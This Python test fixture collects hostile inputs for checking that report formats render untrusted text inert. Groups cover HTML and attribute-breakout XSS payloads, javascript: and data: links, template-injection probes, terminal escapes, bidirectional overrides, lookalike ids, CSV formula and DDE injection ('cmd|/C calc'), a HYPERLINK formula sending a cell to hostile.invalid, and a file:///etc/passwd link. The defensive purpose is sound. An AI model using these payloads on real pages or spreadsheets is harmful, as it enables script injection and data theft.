"""Texts that somebody could put into evidence or policy to act on the reader of a report.

Every format of the report is made from a project that holds all of them; a format is safe if they
come out as words. Names say what each tries.
"""

from __future__ import annotations

CALL = "hostileRan()"
"""What the scripts below would run; a page that runs one has failed."""
ADDRESS = "https://hostile.invalid/"
"""What the addresses below would ask for; nothing may ask for it."""

MARKUP = {
    "script": f"<script>{CALL}</script>",
    "script-that-ends-one": f"</script><script>{CALL}</script>",
    "style-that-ends-one": f"</style><script>{CALL}</script>",
    "title-that-ends-one": f"</title></head><script>{CALL}</script>",
    "comment-that-ends-one": f"--><script>{CALL}</script><!--",
    "data-section": f"]]><script>{CALL}</script>",
    "image": f'<img src="{ADDRESS}pixel.png" onerror="{CALL}">',
    "drawing": f"<svg onload={CALL}><animate onbegin={CALL} attributeName=x dur=1s>",
    "frame": f'<iframe src="{ADDRESS}frame" srcdoc="<script>parent.{CALL}</script>"></iframe>',
    "open-details": f"<details open ontoggle={CALL}>open</details>",
    "form": f'<form action="{ADDRESS}form"><input autofocus onfocus={CALL}></form>',
    "base": f'<base href="{ADDRESS}base/">',
    "refresh": f'<meta http-equiv="refresh" content="0;url={ADDRESS}refresh">',
    "sheet": f'<link rel="stylesheet" href="{ADDRESS}sheet.css">',
    "style": f"<style>@import '{ADDRESS}import.css';body{{display:none}}</style>",
    "mathematics": f'<math><mtext></p><style><img src onerror="{CALL}"></style></mtext></math>',
    "split-tag": f"<scr<script>ipt>{CALL}</scr</script>ipt>",
    "entities": f"&lt;script&gt;{CALL}&lt;/script&gt; &#60;b&#62; &amp;amp;",
}
"""Elements, and ends of what the text stands in."""

ATTRIBUTES = {
    "double-quote": f'" onmouseover="{CALL}" autofocus onfocus="{CALL}" x="',
    "single-quote": f"' onmouseover='{CALL}' x='",
    "no-quote": f"x onmouseover={CALL} ",
    "backtick": f"` onmouseover={CALL} `",
    "fragment": '#"><img src=x>',
    "selector": "a\"]:not(*),*[id='x'],\\",
    "template": "{{ 7*7 }}{% raw %}${7*7}#{7*7}<%= 7*7 %>",
}
"""Ends of attributes, and of what scripts and templates would read."""

LINKS = {
    "script-link": f"javascript:{CALL}",
    "script-link-in-case": f"JaVaScRiPt:{CALL}",
    "script-link-split": f"java\tscript:{CALL}",
    "data-link": f"data:text/html,<script>{CALL}</script>",
    "vbscript-link": f"vbscript:{CALL}",
    "markdown-link": f"[press here](javascript:{CALL})",
    "markdown-image": f"![pixel]({ADDRESS}pixel.png)",
    "markdown-reference": f"[ref]: {ADDRESS}\n[ref]",
    "bare-address": f"{ADDRESS}bare",
    "file-link": "file:///etc/passwd",
    "mention": "@everyone #1 GH-1 !1 :tada:",
}
"""What a reader's program could make a link, or follow by itself."""

TERMINAL = {
    "escape-colour": "\x1b[31mred\x1b[0m",
    "escape-title": "\x1b]0;title\x07",
    "escape-link": f"\x1b]8;;{ADDRESS}\x1b\\link\x1b]8;;\x1b\\",
    "line-feeds": "first\nsecond\r\nthird\x0bfourth\x0cfifth\x85sixth\u2028seventh\u2029eighth",
    "back": "conformant\b\b\b\b\b\b\b\b\b\bgap       ",
    "zero": "a\x00b",
    "delete": "a\x7fb",
}
"""Control characters."""

DIRECTIONS = {
    "override": "safe\u202etnamrofnoc-ton\u202c end",
    "isolate": "a \u2066\u2067b\u2069 c\u2069",
    "embedding": "\u202b(1) < (2)\u202c",
    "marks": "\u200e\u200f\u061cmarks",
    "unclosed": "\u202e\u202e\u202e everything after me is turned round",
    "hebrew-and-digits": "\u05d0\u05d1 12/34 (56) \u05d2",
}
"""Bidirectional controls, and text that needs none."""

LOOKALIKES = {
    "cyrillic-id": "\u0405\u0415\u0421-WGT-02",
    "greek-id": "S\u0395C-WGT-02",
    "full-width-id": "\uff33\uff25\uff23-\uff37\uff27\uff34-\uff10\uff12",
    "mathematical-id": "\U0001d412\U0001d404\U0001d402-WGT-02",
    "zero-width-id": "SEC\u200b-WGT\u200d-\ufeff02",
    "soft-hyphen-id": "SEC\u00ad-WGT-02",
    "dotless": "cert\u0131f\u0131ed",
    "composed": "e\u0301 \u00e9",
    "stacked-marks": "Z" + "\u0300\u0316\u0321\u0334" * 40 + "algo",
    "tags": "ok\U000e0068\U000e0069\U000e007f",
    "variation": "1\ufe0f\u20e3 \U0001f1e9\U0001f1ea",
    "ligature": "\ufb01ne \ufdfa",
}
"""Ids that look like another, and what is seen as nothing or as too much."""

FORMULAS = {
    "formula": "=1+1",
    "formula-command": "=cmd|' /C calc'!A0",
    "formula-request": f'=HYPERLINK("{ADDRESS}"&A1,"press here")',
    "formula-import": f'=IMPORTXML("{ADDRESS}","//a")',
    "formula-plus": "+1+cmd|' /C calc'!A0",
    "formula-minus": "-2+3+cmd|' /C calc'!A0",
    "formula-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula-after-tab": "\t=1+1",
    "formula-after-return": "\r=1+1",
    "formula-after-feed": "\n=1+1",
    "formula-full-width": "\uff1d1+1",
    "formula-quoted": '";=1+1;"',
    "formula-exchange": 'DDE("cmd";"/C calc";"x")',
    "separators": "a,b;c\td|e\"f'g",
}
"""Cells that a spreadsheet would reckon, and what would break out of one."""

LENGTHS = {
    "megabyte": "long " * 200_000 + "end",
    "megabyte-without-a-break": "x" * 1_000_000,
    "many-marks": "&<>\"'" * 2_000,
    "deep": "<b>" * 5_000,
    "brackets": "[" * 5_000 + "](" * 100,
}
"""Texts that are long, or much longer once they are escaped."""

EMPTY = {"space": " \t ", "invisible": "\u200b\u2060", "no-break": "\u00a0"}
"""What shows nothing."""

GROUPS = {
    "markup": MARKUP,
    "attributes": ATTRIBUTES,
    "links": LINKS,
    "terminal": TERMINAL,
    "directions": DIRECTIONS,
    "lookalikes": LOOKALIKES,
    "formulas": FORMULAS,
    "lengths": LENGTHS,
    "empty": EMPTY,
}

SHORT = {
    name: text for group in GROUPS.values() for name, text in group.items() if len(text) <= 1_000
}
"""Those that fit into an id or a title."""

EVERY = {name: text for group in GROUPS.values() for name, text in group.items()}
"""All of them, by name."""
